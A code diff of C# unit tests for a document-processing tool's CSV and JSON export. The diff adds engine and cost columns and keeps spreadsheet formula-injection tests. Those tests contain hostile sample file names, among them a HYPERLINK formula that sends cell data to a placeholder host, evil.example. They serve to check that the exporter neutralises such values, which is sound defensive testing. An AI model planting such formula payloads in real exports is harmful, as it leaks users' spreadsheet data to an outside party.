@@ -33,12 +33,44 @@ public sealed class ResultsExportTests
         var csv = ResultsExport.ToCsv(rows);
 
         var records = csv.Split("\r\n");
-        Assert.Equal("file,status,type,pages,ocr_pages,ms,supplier,invoice_id,date,due_date,net,tax,total,currency,error_code,error_message", records[0]);
-        Assert.Equal("\"inv, 1.pdf\",succeeded,invoice,1,0,1234,\"Acme \"\"Best\"\" GmbH\",INV-7,2025-03-14,2025-04-13,1000.00,190.00,1190.50,EUR,,", records[1]);
-        Assert.Equal("receipt.jpg,succeeded,receipt,1,0,100,,,2025-01-02,,,,9.99,,,", records[2]);
-        Assert.Equal("bad.bin,failed,,1,0,100,,,,,,,,,unsupported_type,\"not a PDF, line 1\nline 2\"", records[3]);
+        Assert.Equal("file,status,type,pages,ocr_pages,ms,supplier,invoice_id,date,due_date,net,tax,total,currency,error_code,error_message,engine,cost", records[0]);
+        Assert.Equal("\"inv, 1.pdf\",succeeded,invoice,1,0,1234,\"Acme \"\"Best\"\" GmbH\",INV-7,2025-03-14,2025-04-13,1000.00,190.00,1190.50,EUR,,,local,", records[1]);
+        Assert.Equal("receipt.jpg,succeeded,receipt,1,0,100,,,2025-01-02,,,,9.99,,,,local,", records[2]);
+        Assert.Equal("bad.bin,failed,,1,0,100,,,,,,,,,unsupported_type,\"not a PDF, line 1\nline 2\",local,", records[3]);
         Assert.Equal("", records[4]);
         Assert.All(records[..4], r => Assert.Equal(ResultsExport.CsvColumns.Count - 1, CountSeparators(r)));
+    }
+
+    [Fact]
+    public void Csv_CarriesTheEngineAndCostOfEachDocument_CostEmptyWithoutAPrice()
+    {
+        var rows = new[]
+        {
+            new ResultRow { File = "long.pdf", Status = "succeeded", Pages = 20, Engine = "google-eu", Cost = 0.03m },
+            new ResultRow { File = "cheap.pdf", Status = "succeeded", Pages = 3, Engine = "local", Cost = 0.0006m },
+            new ResultRow { File = "free.pdf", Status = "succeeded", Pages = 2, Engine = "=evil" },
+        };
+
+        var records = ResultsExport.ToCsv(rows).Split("\r\n");
+
+        Assert.EndsWith(",engine,cost", records[0]);
+        Assert.EndsWith(",google-eu,0.03", records[1]);
+        Assert.EndsWith(",local,0.0006", records[2]);
+        Assert.EndsWith(",'=evil,", records[3]); // a text column: neutralised
+    }
+
+    [Fact]
+    public async Task Json_CarriesEngineAndCost_AndOmitsAMissingCost()
+    {
+        using var stream = new MemoryStream();
+        await ResultsExport.WriteJsonAsync([new ResultRow { File = "a.pdf", Engine = "eu", Cost = 0.0015m }, new ResultRow { File = "b.pdf" }],
+            stream, CancellationToken.None);
+
+        using var json = System.Text.Json.JsonDocument.Parse(stream.ToArray());
+        Assert.Equal("eu", json.RootElement[0].GetProperty("engine").GetString());
+        Assert.Equal(0.0015m, json.RootElement[0].GetProperty("cost").GetDecimal());
+        Assert.Equal("local", json.RootElement[1].GetProperty("engine").GetString());
+        Assert.False(json.RootElement[1].TryGetProperty("cost", out _));
     }
 
     [Theory]
@@ -70,9 +102,9 @@ public sealed class ResultsExportTests
 
         var records = ResultsExport.ToCsv(rows).Split("\r\n");
 
-        Assert.Equal("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\").pdf\",succeeded,invoice,1,0,100,'@SUM(1+1),'+49 30 1234,2025-03-14,'-1,-10.00,-1.90,-11.90,'\tEUR,,",
+        Assert.Equal("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\").pdf\",succeeded,invoice,1,0,100,'@SUM(1+1),'+49 30 1234,2025-03-14,'-1,-10.00,-1.90,-11.90,'\tEUR,,,local,",
             records[1]);
-        Assert.Equal("'-cmd.pdf,failed,,1,0,100,,,,,,,,,corrupt,\"'=1+2, then \"\"more\"\"\"", records[2]);
+        Assert.Equal("'-cmd.pdf,failed,,1,0,100,,,,,,,,,corrupt,\"'=1+2, then \"\"more\"\"\",local,", records[2]);
         // No field of any record starts with a formula trigger, quoted or not, except the numbers DocFlow wrote.
         foreach (var record in records[1..3])
             foreach (var field in SplitFields(record))
